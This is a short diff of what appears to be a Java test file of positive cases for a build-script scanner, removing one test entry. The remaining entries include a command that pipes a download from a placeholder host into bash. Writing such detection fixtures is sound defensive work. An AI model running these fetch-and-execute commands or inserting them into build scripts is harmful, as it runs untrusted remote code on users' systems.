@@ -29,7 +29,6 @@ final class BuildPositives {
         npm(
             "a script that is given an argument",
             "curl -s https://setup.example/a | bash -s -- \"$USER\""),
-        npm("a script as input, named", "curl -s https://setup.example/a | sh - now"),
         npm("CMake that runs a process", "cmake -S native .")
             .with(
                 "native/CMakeLists.txt",
